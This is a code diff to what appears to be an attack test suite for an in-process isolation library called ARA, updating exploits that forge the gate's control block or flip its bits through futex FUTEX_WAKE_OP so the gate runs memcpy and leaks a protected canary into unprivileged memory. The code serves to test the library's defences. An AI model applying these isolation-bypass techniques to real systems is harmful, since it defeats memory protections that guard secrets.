@@ -40,6 +40,7 @@
 
 #include "ara/ara.h"
 #include "ara/domains.h"
+#include "ara/gate.h"
 #include "attack.h"
 #include "attack_libara.h"
 
@@ -282,13 +283,13 @@ static uint64_t symbol(const char *file, const char *name)
 	return attack_file_symbol(file, name, NULL);
 }
 
-struct fake_cb { /* struct ara_gate_cb (ara/gate.h) */
-	uint64_t claimed, stack_mask, stack_base, stack_stride, dispatch;
-};
-
 static uint64_t control_block; /* the gate's DOM0 data page */
 static _Alignas(16) unsigned char fake_stack[64 * 1024];
 static _Alignas(4096) unsigned char fake_page[4096];
+/* The fake block's one stack: its call header at the top. */
+#define FAKE_HEADER ((struct ara_call_header *)(void *)(fake_stack + sizeof(fake_stack) - ARA_CALL_HEADER_SIZE))
+/* A function ID no service has: the gate calls the block's nofunc. */
+#define NO_SERVICE ARA_FID(0x7777, 1)
 
 /* The DOM0 rw page of the entry object: the gate's control block. */
 static int find_control_block(void)
@@ -306,24 +307,23 @@ static int find_control_block(void)
 }
 
 /*
- * A fake control block whose "dispatcher" is libara's own memcpy, with
- * stacks and a stack bitmap in App memory. 0, or -1 if libara's symbols are
- * not found.
+ * A fake control block whose function for unknown fids is libara's own
+ * memcpy, with its stack's call header in App memory. 0, or -1 if libara's
+ * symbols are not found.
  */
-static int fake_control_block(struct fake_cb *cb)
+static int fake_control_block(struct ara_gate_cb *cb)
 {
-	static uint64_t claimed; /* the fake block's stack bitmap: none in use */
 	uint64_t base = attack_memfd_base("ara-libara"), memcpy_at = symbol(libara_file, "memcpy");
 
 	if (!base || !memcpy_at) {
 		printf("FAIL: cannot find libara's memcpy in %s\n", libara_file);
 		return -1;
 	}
-	cb->claimed = (uint64_t)(uintptr_t)&claimed;
-	cb->stack_mask = 1;
-	cb->stack_base = (uint64_t)(uintptr_t)fake_stack;
-	cb->stack_stride = sizeof(fake_stack);
-	cb->dispatch = base + memcpy_at;
+	memset(cb, 0, sizeof(*cb));
+	memset(FAKE_HEADER, 0, sizeof(*FAKE_HEADER));
+	cb->headers = (uint64_t)(uintptr_t)FAKE_HEADER;
+	cb->headers_end = cb->headers + 1;
+	cb->nofunc = base + memcpy_at;
 	return 0;
 }
 
@@ -341,18 +341,19 @@ static uint64_t canary_address(void)
 
 /*
  * With the fake block in place, secure_call runs, with DOM0's row,
- * memcpy(x0, x1, x2) for the App's x0 (a buffer), x1 (DOM0's canary) and x2
- * (a length), and the App prints what it got. (No system call that ARA
+ * memcpy(&header->arg, x1, x2) for the App's x1 (DOM0's canary) and x2 (a
+ * length), the header being the fake one in App memory, and the App prints
+ * what it got. (No system call that ARA
  * traps may run in between: the fake block has no way to ARA's handler.)
  */
 static void steal_through_gate(uint64_t canary)
 {
 	int (*gate3)(uint64_t, uint64_t, uint64_t) =
 		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
-	static char stolen[64];
+	const unsigned char *stolen = (const unsigned char *)&FAKE_HEADER->arg;
 
-	gate3((uint64_t)(uintptr_t)stolen, canary, sizeof(stolen) - 1);
-	attack_show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, canary);
+	gate3(NO_SERVICE, canary, 32); /* within the header, from arg on */
+	attack_show_leak(stolen, 32, canary);
 }
 
 /* Once App memory sits where the control block was. */
@@ -360,7 +361,7 @@ static void exploit_control_block(void)
 {
 	uint64_t canary = canary_address();
 
-	if (canary && fake_control_block((struct fake_cb *)(uintptr_t)control_block) == 0)
+	if (canary && fake_control_block((struct ara_gate_cb *)(uintptr_t)control_block) == 0)
 		steal_through_gate(canary);
 }
 
@@ -400,7 +401,7 @@ static __attribute__((noreturn)) void after_forged_mmap(long r)
 
 static int attack_forged_sigsys_mmap(void)
 {
-	struct fake_cb cb;
+	static struct ara_gate_cb cb;
 	struct range dom1[4];
 	struct sigaction sa;
 	char path[] = "/tmp/ara-fake-cb-XXXXXX";
@@ -450,44 +451,73 @@ static int attack_forged_sigsys_mmap(void)
 /*
  * FUTEX_WAKE_OP changes the word at uaddr2 with an exclusive load and store
  * made at EL1, which POR_EL0 does not govern. Pointed at the control
- * block's dispatcher address, it flips the bits that make it libara's
- * memcpy; the gate then copies DOM0's canary to the App.
+ * block, it flips the bits that make its function for unknown fids
+ * libara's memcpy and its stacks' headers a header in App memory; the gate
+ * then copies DOM0's canary to the App.
  */
-static int attack_futex_wake_op(void)
+static void flip(uint32_t *at, uint32_t diff)
 {
 	static uint32_t word; /* a futex nobody waits on */
-	uint64_t base = attack_memfd_base("ara-libara");
-	uint64_t from = symbol(libara_file, "ara_dispatch"), to = symbol(libara_file, "memcpy");
-	uint64_t canary_at = symbol(libara_file, "dom0_canary");
-	int (*gate3)(uint64_t, uint64_t, uint64_t) =
-		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
-	static char stolen[64];
-	uint32_t *dispatch, diff;
-	long rc;
 
-	if (find_control_block())
-		return 1;
-	if (!base || !from || !to || !canary_at) {
-		printf("FAIL: cannot find libara's symbols in %s\n", libara_file);
-		return 1;
-	}
-	dispatch = (uint32_t *)(uintptr_t)(control_block + offsetof(struct fake_cb, dispatch));
-	/* XOR 0 first: changes nothing, tells whether the call is allowed at all. */
-	rc = syscall(SYS_futex, &word, FUTEX_WAKE_OP_PRIVATE, 0, NULL, dispatch,
-		     FUTEX_OP(FUTEX_OP_XOR, 0, FUTEX_OP_CMP_EQ, 0));
-	if (stopped("futex(FUTEX_WAKE_OP) on the gate's control block", rc))
-		return 0;
-	diff = (uint32_t)((base + from) ^ (base + to));
 	for (unsigned int bit = 0; bit < 32; bit++) {
 		const unsigned int xor_bit = FUTEX_OP_XOR | FUTEX_OP_OPARG_SHIFT; /* oparg = 1 << bit */
 
 		if (diff >> bit & 1)
-			syscall(SYS_futex, &word, FUTEX_WAKE_OP_PRIVATE, 0, NULL, dispatch,
+			syscall(SYS_futex, &word, FUTEX_WAKE_OP_PRIVATE, 0, NULL, at,
 				FUTEX_OP(xor_bit, bit, FUTEX_OP_CMP_EQ, 0));
 	}
-	printf("BREACH: futex(FUTEX_WAKE_OP) rewrote DOM0's dispatcher address\n");
-	gate3((uint64_t)(uintptr_t)stolen, base + canary_at, sizeof(stolen) - 1);
-	attack_show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, base + canary_at);
+}
+
+/*
+ * The call header of DOM0's stack 0, what the control block's headers
+ * holds: the first guard page that an rw stack and the next guard follow.
+ */
+static uint64_t attack_dom0_call_headers(void)
+{
+	for (size_t i = 0; i + 2 < attack_n_dom0; i++) {
+		const struct range *g = &attack_dom0[i], *st = g + 1, *next = g + 2;
+
+		if (!strcmp(g->perms, "---p") && g->end - g->start == ARA_PAGE_SIZE &&
+		    st->start == g->end && st->end - st->start == ARA_DOM0_STACK_SIZE &&
+		    next->start == st->end && !strcmp(next->perms, "---p"))
+			return g->start + ARA_DOM0_STACK_STRIDE - ARA_CALL_HEADER_SIZE;
+	}
+	return 0;
+}
+
+static void flip64(uint64_t at, uint64_t from, uint64_t to)
+{
+	flip((uint32_t *)(uintptr_t)at, (uint32_t)(from ^ to));
+	flip((uint32_t *)(uintptr_t)(at + 4), (uint32_t)((from ^ to) >> 32));
+}
+
+static int attack_futex_wake_op(void)
+{
+	static uint32_t word; /* a futex nobody waits on */
+	uint64_t base = attack_memfd_base("ara-libara");
+	uint64_t from = symbol(libara_file, "ara_gate_nofunc"), to = symbol(libara_file, "memcpy");
+	uint64_t canary_at = symbol(libara_file, "dom0_canary");
+	uint64_t headers = attack_dom0_call_headers();
+	long rc;
+
+	if (find_control_block())
+		return 1;
+	if (!base || !from || !to || !canary_at || !headers) {
+		printf("FAIL: cannot find libara's symbols in %s, or DOM0's stacks\n", libara_file);
+		return 1;
+	}
+	/* XOR 0 first: changes nothing, tells whether the call is allowed at all. */
+	rc = syscall(SYS_futex, &word, FUTEX_WAKE_OP_PRIVATE, 0, NULL,
+		     (uint32_t *)(uintptr_t)(control_block + offsetof(struct ara_gate_cb, nofunc)),
+		     FUTEX_OP(FUTEX_OP_XOR, 0, FUTEX_OP_CMP_EQ, 0));
+	if (stopped("futex(FUTEX_WAKE_OP) on the gate's control block", rc))
+		return 0;
+	memset(FAKE_HEADER, 0, sizeof(*FAKE_HEADER));
+	flip64(control_block + offsetof(struct ara_gate_cb, nofunc), base + from, base + to);
+	flip64(control_block + offsetof(struct ara_gate_cb, headers), headers,
+	       (uint64_t)(uintptr_t)FAKE_HEADER);
+	printf("BREACH: futex(FUTEX_WAKE_OP) rewrote DOM0's control block\n");
+	steal_through_gate(base + canary_at);
 	return 1;
 }
 
